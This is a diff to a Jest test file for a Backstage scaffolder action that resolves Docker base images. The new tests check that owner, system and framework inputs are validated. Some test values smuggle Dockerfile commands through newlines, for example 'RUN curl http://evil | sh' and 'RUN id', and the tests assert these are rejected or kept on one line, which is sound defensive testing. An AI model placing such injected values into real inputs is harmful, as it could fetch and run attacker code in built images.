@@ -1,13 +1,22 @@
 import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
 import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
 import { mockCredentials } from '@backstage/backend-test-utils';
+import { Entity } from '@backstage/catalog-model';
 import { baseImagesConfig, catalogEntities } from '../__testUtils__/fixtures';
 import { createResolveBaseImagesAction } from './resolve';
 
 const publish = { target: 'local' as const, localDirectory: '/tmp/repos' };
 
-function setup(options: { mirror?: boolean } = {}) {
-  const catalog = catalogServiceMock({ entities: catalogEntities });
+interface Options {
+  mirror?: boolean;
+  isDryRun?: boolean;
+  entities?: Entity[];
+}
+
+function setup(options: Options = {}) {
+  const catalog = catalogServiceMock({
+    entities: options.entities ?? catalogEntities,
+  });
   const getEntityByRef = jest.spyOn(catalog, 'getEntityByRef');
   const action = createResolveBaseImagesAction({
     catalog,
@@ -17,10 +26,7 @@ function setup(options: { mirror?: boolean } = {}) {
   return { action, getEntityByRef };
 }
 
-async function resolve(
-  input: Record<string, unknown>,
-  options: { mirror?: boolean; isDryRun?: boolean } = {},
-) {
+async function resolve(input: Record<string, unknown>, options: Options = {}) {
   const { action, getEntityByRef } = setup(options);
   const ctx = createMockActionContext({
     input: input as any,
@@ -186,9 +192,106 @@ describe('base-images:resolve', () => {
       /Cannot meet framework hipaa \(from system:default\/patient-records\).*baseImages\.runtimes\.python\.dhiTags/,
     ],
     [{ runtime: 'python', version: '../../etc' }, /Invalid version/],
-    [{ runtime: 'python', owner: 'group:default/' }, /Invalid group reference/],
+    [
+      { runtime: 'python', owner: 'group:default/' },
+      /owner "group:default\/" is not an entity ref \(.*\); use \[group:\]\[namespace\/\]name/,
+    ],
   ])('%j fails clearly', async (input, message) => {
     await expect(resolve(input)).rejects.toThrow(message);
+  });
+
+  it.each([
+    [
+      { owner: 'user:default/a\nFROM x AS y\nRUN curl http://evil | sh' },
+      /owner "user:default\/a\\nFROM x AS y\\nRUN curl http:\/\/evil \| sh" contains the control character U\+000A at position 14/,
+    ],
+    [
+      { owner: 'group:default/web-team\u2029' },
+      /owner "group:default\/web-team\\u2029" contains the control character U\+2029/,
+    ],
+    [
+      { owner: 'component:default/web-team' },
+      /owner "component:default\/web-team" is a component; it must be a group or user/,
+    ],
+    [
+      { system: 'system:default/a/b' },
+      /system "system:default\/a\/b" breaks the catalog's naming rules: name "a\/b"/,
+    ],
+    [
+      { system: 'system:default/x:y' },
+      /system "system:default\/x:y" breaks the catalog's naming rules/,
+    ],
+    [
+      { system: 'domain:default/finance' },
+      /system "domain:default\/finance" is a domain; it must be a system/,
+    ],
+    [{ system: `${'a'.repeat(64)}` }, /name "a{64}" must be 1-63 letters/],
+    [
+      { frameworks: ['hipaa\nRUN id'] },
+      /frameworks\[0\] "hipaa\\nRUN id" contains the control character U\+000A/,
+    ],
+    [{ frameworks: 'hipaa' }, /frameworks must be a list of at most 20 ids/],
+  ])('refuses %j before reading the catalog', async (input, message) => {
+    const { action, getEntityByRef } = setup();
+    const ctx = createMockActionContext({
+      input: { runtime: 'python', ...input } as any,
+    });
+    await expect(action.handler(ctx as any)).rejects.toThrow(message);
+    expect(getEntityByRef).not.toHaveBeenCalled();
+  });
+
+  it('defaults the owner to a group and the system to a system', async () => {
+    const { getEntityByRef } = await resolve({
+      runtime: 'python',
+      owner: 'default/security-team',
+      system: 'default/payments',
+    });
+    expect(getEntityByRef).toHaveBeenCalledWith(
+      'group:default/security-team',
+      expect.anything(),
+    );
+    expect(getEntityByRef).toHaveBeenCalledWith(
+      'system:default/payments',
+      expect.anything(),
+    );
+  });
+
+  it('keeps reasons and framework sources that quote catalog data on one line', async () => {
+    // the catalog refuses such a name; this stands for any catalog text the policy quotes
+    const domain = 'fin\nrun curl evil | sh\u2028x';
+    const entities: Entity[] = [
+      {
+        apiVersion: 'backstage.io/v1alpha1',
+        kind: 'System',
+        metadata: { name: 'odd', namespace: 'default' },
+        spec: { domain },
+      },
+      {
+        apiVersion: 'backstage.io/v1alpha1',
+        kind: 'Domain',
+        metadata: {
+          name: domain,
+          namespace: 'default',
+          annotations: { 'compliance/frameworks': 'soc2' },
+        },
+        spec: {},
+      },
+    ];
+    const { outputs } = await resolve(
+      { runtime: 'python', system: 'odd' },
+      { entities },
+    );
+    expect(outputs.frameworks).toEqual([
+      {
+        id: 'soc2',
+        source: 'domain:default/fin run curl evil | sh x',
+      },
+    ]);
+    expect(outputs.reasons).toContain(
+      'soc2 (from domain:default/fin run curl evil | sh x) requires a Docker Hardened Image',
+    );
+    for (const reason of outputs.reasons)
+      expect(reason).not.toMatch(/[\n\r\u2028\u2029]/);
   });
 
   it('CIS without a configured mirror names the config key', async () => {
